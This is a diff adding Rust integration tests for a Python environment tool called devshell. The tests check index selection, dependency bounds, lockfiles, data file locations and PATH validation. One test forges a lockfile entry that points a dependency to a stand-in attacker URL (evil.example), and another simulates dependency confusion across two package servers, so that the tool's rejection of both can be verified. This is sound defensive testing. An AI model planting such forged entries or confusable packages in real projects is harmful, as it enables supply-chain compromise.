@@ -9,6 +9,7 @@ use crate::{
         archive::{gzip, sha256, tar},
         pypi::{serve_pure, serve_tool, serve_tool_files},
         require,
+        sandbox::DEVSH,
     },
 };
 
@@ -440,4 +441,196 @@ fn a_source_archive_is_built_only_if_the_manifest_names_it() {
         sandbox.write("devshell.toml", manifest);
         sandbox.allow();
     }
+}
+
+/// Serves version 9 of `private-lib` to everyone, and version 1 from another server.
+fn confusing(public: &Server) -> Server {
+    let private = Server::start();
+    serve_pure(public, &[pure("private-lib", "9.0", &[], &[])]);
+    serve_pure(&private, &[pure("private-lib", "1.0", &[], &[])]);
+    private
+}
+
+const PRIVATE: &str = "import private_lib; private_lib.main()";
+
+#[test]
+fn packages_come_from_the_index_that_the_project_declares() {
+    let server = Server::start();
+    let Some(sandbox) = repository(&server) else {
+        return;
+    };
+    let private = confusing(&server);
+    let url = format!("{}/simple", private.address());
+    let project = |settings: &str| {
+        format!(
+            "[project]\nname = \"demo\"\nversion = \"1\"\ndependencies = [\"private-lib\"]\n{settings}\n"
+        )
+    };
+    for (name, text) in [
+        (
+            "requirements.txt",
+            format!("--index-url {url}\nprivate-lib\n"),
+        ),
+        (
+            "requirements.txt",
+            format!("--extra-index-url \"{url}\"\nprivate-lib\n"),
+        ),
+        (
+            "pyproject.toml",
+            project(&format!(
+                "[[tool.uv.index]]\nname = \"own\"\nurl = \"{url}\""
+            )),
+        ),
+    ] {
+        sandbox.write(name, &text);
+        sandbox.allow();
+        assert_eq!(python(&sandbox, PRIVATE), "private-lib 1.0\n", "{text}");
+        fs::remove_file(sandbox.project().join(name)).unwrap();
+    }
+}
+
+#[test]
+fn bounds_of_uv_count_without_a_lockfile() {
+    let server = Server::start();
+    let Some(sandbox) = repository(&server) else {
+        return;
+    };
+    let versions = ["4.0", "5.0", "9.0"].map(|version| pure("bounded", version, &[], &[]));
+    serve_pure(&server, &versions);
+    serve_pure(&server, &[pure("strict", "1.0", &["bounded>=9"], &[])]);
+    let project = |dependency: &str, setting: &str| {
+        format!(
+            "[project]\nname = \"demo\"\nversion = \"1\"\ndependencies = [\"{dependency}\"]\n[tool.uv]\n{setting}\n"
+        )
+    };
+    let code = "import bounded; bounded.main()";
+    for (dependency, setting, expected) in [
+        (
+            "bounded",
+            "constraint-dependencies = [\"bounded<5\"]",
+            "bounded 4.0\n",
+        ),
+        (
+            "strict",
+            "override-dependencies = [\"bounded==5.0\"]",
+            "bounded 5.0\n",
+        ),
+    ] {
+        sandbox.write("pyproject.toml", project(dependency, setting));
+        sandbox.allow();
+        assert_eq!(python(&sandbox, code), expected, "{setting}");
+    }
+}
+
+#[test]
+fn places_in_a_list_are_installed_with_what_they_need() {
+    let server = Server::start();
+    let Some(sandbox) = repository(&server) else {
+        return;
+    };
+    serve_pure(
+        &server,
+        &[
+            pure("direct", "1.0", &[], &[]),
+            pure("local", "1.0", &["deep"], &[]),
+        ],
+    );
+    let wheel = server.content("/files/local-1.0-py3-none-any.whl");
+    fs::create_dir_all(sandbox.project().join("my wheels")).unwrap();
+    let place = "my wheels/local-1.0-py3-none-any.whl";
+    fs::write(sandbox.project().join(place), wheel).unwrap();
+    let project = PROJECT.replace(
+        "[dependency-groups]\ndev",
+        "[project.optional-dependencies]\ndev",
+    );
+    sandbox.write("pyproject.toml", &project);
+    sandbox.write("backend.py", BACKEND);
+    sandbox.write("src/demo.py", "");
+    let direct = format!("{}/files/direct-1.0-py3-none-any.whl", server.address());
+    sandbox.write(
+        "requirements.txt",
+        format!("-e .[dev]\ndirect @ {direct}\n./{place}\n"),
+    );
+    sandbox.allow();
+    let code = "import demo, helper_lib, tester, direct, local, deep; print(1)";
+    assert_eq!(python(&sandbox, code), "1\n");
+    sandbox.devsh(&["lock"]).success();
+    let lockfile = fs::read_to_string(sandbox.project().join("devshell.lock")).unwrap();
+    let line = "local @ file://${PROJECT_ROOT}/my%20wheels/local-1.0-py3-none-any.whl";
+    assert!(lockfile.contains(line), "{lockfile}");
+    sandbox.devsh(&["lock", "--check"]).success();
+    // A lockfile alone cannot add an address.
+    let forged = lockfile.replace(
+        "requirement = \"deep==2.0\"",
+        "requirement = \"deep @ https://evil.example/deep.whl\"",
+    );
+    assert_ne!(forged, lockfile);
+    sandbox.write("devshell.lock", forged);
+    let outcome = sandbox.devsh(&["sync"]);
+    outcome.error(&["a package from an address that `requirements` has"]);
+}
+
+#[test]
+fn data_files_of_packages_are_below_the_prefix() {
+    let server = Server::start();
+    let Some(sandbox) = repository(&server) else {
+        return;
+    };
+    serve_tool_files(
+        &server,
+        ("datafiles", "1.0"),
+        &[
+            ("datafiles-1.0.data/data/share/datafiles/a.txt", b"a", false),
+            ("datafiles-1.0.data/data/etc/datafiles.conf", b"b", false),
+        ],
+    );
+    let sandbox = sandbox
+        .manifest("[tools]\npython = \"3\"\nuv = \"*\"\n[python]\npackages = [\"datafiles\"]\n");
+    sandbox.devsh(&["lock", "--trust"]).success();
+    sandbox.allow();
+    let code = "import pathlib, sys; root = pathlib.Path(sys.prefix); \
+        print((root / 'share/datafiles/a.txt').read_text(), (root / 'etc/datafiles.conf').read_text())";
+    assert_eq!(python(&sandbox, code), "a b\n");
+    sandbox.devsh(&["verify"]).success();
+}
+
+#[test]
+fn a_package_that_no_index_has_costs_the_packages_only() {
+    let server = Server::start();
+    let Some(sandbox) = repository(&server) else {
+        return;
+    };
+    sandbox.write(
+        "pyproject.toml",
+        "[project]\nname = \"demo\"\nversion = \"1\"\ndependencies = [\"nowhere>=2\"]\n[tool.ruff]\n",
+    );
+    let outcome = sandbox.devsh(&["allow"]).success();
+    assert!(
+        outcome.stderr.contains("no Python packages are installed")
+            && outcome.stderr.contains("nowhere"),
+        "{}",
+        outcome.stderr
+    );
+    sandbox.devsh(&["run", "--", "ruff"]).success();
+    assert!(!sandbox.devsh(&["lock"]).status.success());
+}
+
+#[test]
+fn a_colon_in_a_path_is_an_error() {
+    let server = Server::start();
+    let Some(sandbox) = repository(&server) else {
+        return;
+    };
+    let sandbox = sandbox.manifest("[env]\nPATH = { prepend = [\"./bin\"] }\n");
+    let place = sandbox.home().join("c:d");
+    fs::create_dir(&place).unwrap();
+    let manifest = sandbox.project().join("devshell.toml");
+    fs::copy(manifest, place.join("devshell.toml")).unwrap();
+    let run = ["run", "--trust", "--", "true"];
+    let mut command = sandbox.command(DEVSH);
+    let outcome = sandbox.outcome(command.args(run).current_dir(&place));
+    outcome.error(&["`./bin` cannot be an entry of `PATH` (devshell.toml:2)"]);
+    let data = sandbox.home().join("a:b");
+    let sandbox = sandbox.env("XDG_DATA_HOME", data.to_str().unwrap());
+    sandbox.devsh(&run).error(&["cannot be on PATH"]);
 }
